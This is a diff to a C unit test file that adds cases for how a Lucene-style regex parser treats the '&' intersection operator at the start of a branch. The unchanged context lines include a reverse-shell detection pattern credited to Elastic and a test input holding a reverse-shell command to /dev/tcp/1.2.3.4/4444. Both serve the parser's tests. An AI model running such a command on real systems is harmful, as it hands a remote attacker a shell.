@@ -1338,6 +1338,14 @@ static void test_lucene_regex_intersection(void **state)
 	    {"a&|b", "b", 0},   /* */
 	    {".*&|b", "|b", 1}, /* */
 	    {"A.*&.*Z", "AbZ", 1},
+	    /* a & that starts a branch is a character, the concatenation's first item */
+	    {"&a", "&a", 1},
+	    {"x|&b", "&b", 1},
+	    {"x|&", "&", 1},
+	    {"(&)", "&", 1},
+	    {"y(&b)*", "y&b&b", 1},
+	    {"&&a", "&a", 0}, /* "&" & "a" */
+	    {"&&a", "a", 0},  /* */
 	    /* Elastic's kubernetes reverse-shell alternatives: >& then | is > & "|0>" & "1" */
 	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 0},
 	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "mkfifo /tmp/f", 1},
